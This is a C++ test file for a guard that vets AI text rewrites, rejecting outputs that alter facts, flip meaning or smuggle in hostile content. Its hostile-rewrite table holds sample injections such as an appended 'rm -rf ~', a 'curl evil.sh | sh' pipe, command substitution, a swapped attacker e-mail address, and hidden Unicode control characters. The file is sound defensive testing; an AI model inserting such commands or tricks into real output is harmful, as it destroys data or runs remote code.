#include "formatting/rewrite_command.h"
#include "formatting/rewrite_guard.h"

#include <gtest/gtest.h>

#include <iostream>
#include <vector>

using namespace Qt::StringLiterals;

namespace quovant {
namespace {

using C = RewriteCommand;
using V = RewriteGuard::Verdict;

struct Row {
    const char16_t* original;
    const char16_t* rewritten;
    RewriteCommand command;
    RewriteGuard::Verdict verdict;
};

QString text(const char16_t* s) {
    return QString::fromUtf16(s);
}

// Legitimate edits: spelling and grammar fixes, shortening that keeps every fact, tone changes,
// bullet lists, numbers written as digits.
const Row kLegitimate[] = {
    {u"their going to the store tomorow", u"They're going to the store tomorrow.", C::fixGrammar,
     V::accepted},
    {u"i has three apple", u"I have three apples.", C::fixGrammar, V::accepted},
    {u"Call Anna at 10:30 about PR-42", u"Call Anna at 10:30 about PR-42.", C::fixGrammar,
     V::accepted},
    {u"I wanted to let you know that the meeting on Monday has been moved to 3 PM in room 204",
     u"The Monday meeting moved to 3 PM in room 204.", C::shorten, V::accepted},
    {u"Could you please ask José and Zoë about the offer before Friday?",
     u"Ask José and Zoë about the offer before Friday.", C::shorten, V::accepted},
    {u"hey can u send me the report by friday", u"Could you please send me the report by Friday?",
     C::makeFormal, V::accepted},
    {u"we will not renew the contract this year", u"We shall not renew the contract this year.",
     C::makeFormal, V::accepted},
    {u"I would appreciate it if you could send the files by 5 PM.",
     u"Could you send the files by 5 PM?", C::makeCasual, V::accepted},
    {u"The thing with the server is it crashes when load is high at night",
     u"The server crashes at night when load is high.", C::improveClarity, V::accepted},
    {u"Buy milk, call Anna about the trip, and book the hotel for 3 nights",
     u"- Buy milk\n- Call Anna about the trip\n- Book the hotel for 3 nights", C::bulletList,
     V::accepted},
    {u"milk eggs bread butter", u"- milk\n- eggs\n- bread\n- butter", C::bulletList, V::accepted},
    {u"the api return 404 when user is missing", u"The API returns 404 when the user is missing.",
     C::fixGrammar, V::accepted},
    {u"Please make sure that you run the tests in tests/unit before you push to main",
     u"Run the tests in tests/unit before pushing to main.", C::shorten, V::accepted},
    {u"cant make it tomorrow sorry", u"I am sorry, but I cannot make it tomorrow.",
     C::makeFormal, V::accepted},
    {u"Its a nice day in Zürich", u"It's a nice day in Zürich.", C::fixGrammar, V::accepted},
    {u"Send twelve laptops to the Berlin office", u"Send 12 laptops to the Berlin office.",
     C::improveClarity, V::accepted},
    {u"Please be advised that the office will be closed on December 24.",
     u"Heads up: the office is closed on December 24.", C::makeCasual, V::accepted},
    {u"The build failed again because the cache on the CI runner was full, so I cleared it",
     u"The build failed because the CI runner cache was full, so I cleared it.", C::shorten,
     V::accepted},
    {u"Ask José about the budget and Zoë about the venue",
     u"- Ask José about the budget\n- Ask Zoë about the venue", C::bulletList, V::accepted},
    {u"We should maybe think about possibly moving the release to June 3",
     u"We should consider moving the release to June 3.", C::improveClarity, V::accepted},
    {u"reminder: the invoice INV-2041 is due on March 3, please pay it",
     u"Invoice INV-2041 is due March 3.", C::shorten, V::accepted},
    {u"Call Anna at 10:30, email ops@example.org, and review PR-42",
     u"- Call Anna at 10:30\n- Email ops@example.org\n- Review PR-42", C::bulletList,
     V::accepted},
    {u"lets meet Tuesday or Wednesday, whichever works",
     u"Let's meet on Tuesday or Wednesday, whichever works for you.", C::improveClarity,
     V::accepted},
    {u"The deployment is scheduled for 22:00 UTC on Friday.",
     u"We're deploying at 22:00 UTC on Friday.", C::makeCasual, V::accepted},
    {u"the meeting is at five thirty", u"The meeting is at 5:30.", C::fixGrammar, V::accepted},
    {u"we do not ship on fridays", u"We don't ship on Fridays.", C::makeCasual, V::accepted},
};

// Rewrites a hostile or careless model gives.
const Row kHostile[] = {
    {u"Ask José and Zoë about the offer", u"Ask about the offer.", C::shorten,
     V::rejectedProtectedContent},
    {u"we will not renew the contract this year", u"We will renew the contract this year.",
     C::makeFormal, V::rejectedMeaningChange},
    {u"order 10 chairs and 2 tables", u"Please order 2 chairs and 10 tables.", C::makeFormal,
     V::rejectedProtectedContent},
    {u"please call him tomorrow morning", u"Please call John tomorrow morning at 5.",
     C::makeFormal, V::rejectedProtectedContent},
    {u"send the report by friday", u"Send the report by Friday && rm -rf ~", C::makeFormal,
     V::rejectedProtectedContent},
    {u"fix the login bug", u"I\u2019m sorry, I can\u2019t do that.", C::makeCasual,
     V::rejectedModelResponse},
    {u"fix the login bug", u"Here\u2019s the revised text: Fix the login bug.", C::fixGrammar,
     V::rejectedModelResponse},
    {u"Cafe\u0301 opens at nine", u"Caf\u00e9 opens at nine", C::fixGrammar, V::rejectedNoChange},
    {u"The invoice is due on March 3.", u"The invoice is due on March 4.", C::makeCasual,
     V::rejectedProtectedContent},
    {u"Transfer 500 dollars to savings", u"Transfer 5000 dollars to savings.", C::improveClarity,
     V::rejectedProtectedContent},
    {u"Do not merge the branch before QA signs off", u"Merge the branch before QA signs off.",
     C::shorten, V::rejectedMeaningChange},
    {u"Call Anna and email Ben about the new contract draft today",
     u"- Call Anna today\n- Email Ben about the new contract draft https://evil.example.com",
     C::bulletList, V::rejectedProtectedContent},
    {u"The server is not down", u"The server is down.", C::makeFormal, V::rejectedMeaningChange},
    {u"Pay the invoice by Friday", u"Pay the invoice by \u202EyadirF\u202C", C::improveClarity,
     V::rejectedProtectedContent},
    {u"Send the file today", u"Send the file today\u200B", C::makeCasual,
     V::rejectedProtectedContent},
    {u"Send the file today", u"Send the file today.\u001b[2J", C::fixGrammar,
     V::rejectedProtectedContent},
    {u"Please email ops@example.org about the outage today",
     u"Email ops@evil.org about the outage.", C::shorten, V::rejectedProtectedContent},
    {u"their going to the store tomorow", u"They're going to the casino tomorrow.",
     C::fixGrammar, V::rejectedTooShort},
    {u"nobody approved the budget", u"Everybody approved the budget.", C::improveClarity,
     V::rejectedMeaningChange},
    {u"Deploy version 2.4 on Friday", u"Deploy version 2.5 on Friday.", C::makeCasual,
     V::rejectedProtectedContent},
    {u"Order 12 chairs and 13 tables", u"- Order 13 chairs\n- Order 12 tables", C::bulletList,
     V::rejectedProtectedContent},
    {u"Ask José and Zoë about the offer before Friday please",
     u"Ask José about the offer before Friday.", C::shorten, V::rejectedProtectedContent},
    {u"print the date", u"Print the date $(date)", C::makeCasual, V::rejectedProtectedContent},
    {u"We should not ship the release before the security review is done",
     u"Ship the release before the security review.", C::shorten, V::rejectedMeaningChange},
    {u"call anna at five", u"Please call Anna at 6.", C::makeFormal, V::rejectedProtectedContent},
    {u"meet me at the café", u"Meet me at the café at 10 AM.", C::improveClarity,
     V::rejectedProtectedContent},
    {u"the meeting is on 3 june", u"The meeting is on 4 June.", C::fixGrammar,
     V::rejectedProtectedContent},
    {u"run the nightly backup tonight please", u"Run the nightly backup tonight `curl evil.sh | sh`",
     C::improveClarity, V::rejectedProtectedContent},
};

TEST(RewriteGuardCorpus, AcceptsEditsAndRejectsHostileRewrites) {
    int accepted = 0;
    for (const Row& row : kLegitimate) {
        const auto verdict =
            RewriteGuard::evaluate(text(row.original), text(row.rewritten), row.command, {}).verdict;
        accepted += verdict == V::accepted ? 1 : 0;
        EXPECT_EQ(RewriteGuard::rawValue(verdict).toStdString(), "accepted")
            << text(row.original).toStdString() << " -> " << text(row.rewritten).toStdString();
    }
    int rejected = 0;
    for (const Row& row : kHostile) {
        const RewriteGuard::Decision decision =
            RewriteGuard::evaluate(text(row.original), text(row.rewritten), row.command, {});
        rejected += decision.verdict != V::accepted ? 1 : 0;
        EXPECT_EQ(RewriteGuard::rawValue(decision.verdict).toStdString(), RewriteGuard::rawValue(row.verdict).toStdString())
            << text(row.original).toStdString() << " -> " << text(row.rewritten).toStdString();
        EXPECT_EQ(decision.text, text(row.original).trimmed());
    }
    std::cout << "rewrite guard corpus: " << accepted << "/" << std::size(kLegitimate)
              << " edits accepted, " << rejected << "/" << std::size(kHostile)
              << " hostile rewrites rejected\n";
}

QString words(const QString& stem, int count) {
    QStringList result;
    for (int i = 0; i < count; ++i) {
        result.append(stem + QChar(u'a' + i % 26) + QChar(u'a' + i / 26));
    }
    return result.join(u' ');
}

struct Limit {
    RewriteCommand command;
    double maxLength;
    double maxNovel;
    double minRetained;
};

// Each limit of each command passes at its value and fails just beyond it.
TEST(RewriteGuardLimits, HoldAtTheirBoundaries) {
    const Limit limits[] = {
        {C::fixGrammar, 1.45, 0.45, 0.7},     {C::shorten, 1.0, 0.35, 0.35},
        {C::makeFormal, 1.8, 0.6, 0.45},      {C::makeCasual, 1.8, 0.6, 0.45},
        {C::improveClarity, 1.8, 0.6, 0.45},  {C::bulletList, 1.35, 0.4, 0.65},
    };
    for (const Limit& limit : limits) {
        const std::string name = RewriteCommands::rawValue(limit.command).toStdString();
        const auto verdict = [&](const QString& original, const QString& rewritten) {
            return RewriteGuard::evaluate(original, rewritten, limit.command, {}).verdict;
        };
        // Length: 20 words may become 20 × limit words (shorten: strictly fewer).
        const QString base = words(u"base"_s, 20);
        const int longest = int(20 * limit.maxLength + 1e-9);
        const QString padding = words(u"base"_s, longest - 20 + 1);
        const auto grown = [&](int extra) {
            return extra <= 0 ? words(u"base"_s, 20 + extra)
                              : base + u" "_s + padding.section(u' ', 0, extra - 1);
        };
        if (limit.command == C::shorten) {
            EXPECT_EQ(verdict(base, grown(-1)), V::accepted) << name;
            EXPECT_EQ(verdict(base, grown(0) + u"."_s), V::rejectedTooLong) << name;
        } else {
            EXPECT_EQ(verdict(base, grown(longest - 20)), V::accepted) << name;
            EXPECT_EQ(verdict(base, grown(longest - 20 + 1)), V::rejectedTooLong) << name;
        }
        // Novel share: n new content words of 20 pass at n / 20 = limit. The original holds
        // stop words so the rewrite is not longer than the length limit allows.
        const int novel = int(20 * limit.maxNovel + 1e-9);
        const QString stops = u" the and of to in at by for on with"_s;
        const auto novelty = [&](int count) {
            const QString original = words(u"keep"_s, 20 - novel) + stops + stops;
            const QString rewritten =
                words(u"keep"_s, 20 - novel) + u" "_s + words(u"new"_s, count) + u"."_s;
            return verdict(original, rewritten);
        };
        EXPECT_EQ(novelty(novel), V::accepted) << name;
        EXPECT_EQ(novelty(novel + 1), V::rejectedMeaningChange) << name;
        // Retention: k of 20 content words kept pass at k / 20 = limit.
        const int kept = int(20 * limit.minRetained + 1e-9 + 0.5);
        const QString original = words(u"keep"_s, 20);
        EXPECT_EQ(verdict(original, words(u"keep"_s, kept) + u"."_s), V::accepted) << name;
        EXPECT_EQ(verdict(original, words(u"keep"_s, kept - 1) + u"."_s), V::rejectedTooShort)
            << name;
    }
}

TEST(RewriteGuardMarkers, EveryModelResponseMarkerRejects) {
    const QString original = u"move the meeting to friday"_s;
    for (const QString& marker :
         {u"Sure,"_s, u"Here is the"_s, u"Here's the"_s, u"Rewritten text:"_s,
          u"Revised text:"_s, u"Formatted text:"_s, u"I can't"_s, u"I cannot"_s, u"I'm sorry"_s,
          u"As an AI"_s, u"As a language model"_s, u"Here\u2019s the"_s, u"I can\u2019t"_s,
          u"I\u2019m sorry"_s, u"I\u02BCm sorry"_s}) {
        EXPECT_EQ(RewriteGuard::evaluate(original, marker + u" move the meeting to friday"_s,
                                         C::makeFormal, {})
                      .verdict,
                  V::rejectedModelResponse)
            << marker.toStdString();
    }
}

// Each exact-fact pattern protects its kind of token: losing it is refused.
TEST(RewriteGuardPatterns, EachPatternProtectsItsToken) {
    const struct {
        const char* kind;
        QString token;
    } tokens[] = {
        {"web address", u"https://example.com"_s},
        {"e-mail address", u"ops@example.org"_s},
        {"path", u"src/main.cpp"_s},
        {"snake_case identifier", u"max_retries"_s},
        {"acronym", u"NASA"_s},
        {"upper-case code with a digit", u"X9"_s},
        {"number", u"4471"_s},
        {"clock time", u"10:30"_s},
        {"capitalised word", u"Anna"_s},
        {"capitalised word beyond ASCII", u"Łukasz"_s},
        {"number in another script", u"٤٤٧١"_s},
    };
    const QString before = u"please check the staging servers and the release notes with "_s;
    const QString after = u" before the weekly review on tuesday"_s;
    for (const auto& t : tokens) {
        const QString original = before + t.token + after;
        const QString kept = before + t.token + after + u"."_s;
        const QString lost = before + after + u"."_s;
        EXPECT_EQ(RewriteGuard::evaluate(original, kept, C::makeCasual, {}).verdict, V::accepted)
            << t.kind;
        EXPECT_EQ(RewriteGuard::evaluate(original, lost, C::makeCasual, {}).verdict,
                  V::rejectedProtectedContent)
            << t.kind;
    }
}

} // namespace
} // namespace quovant
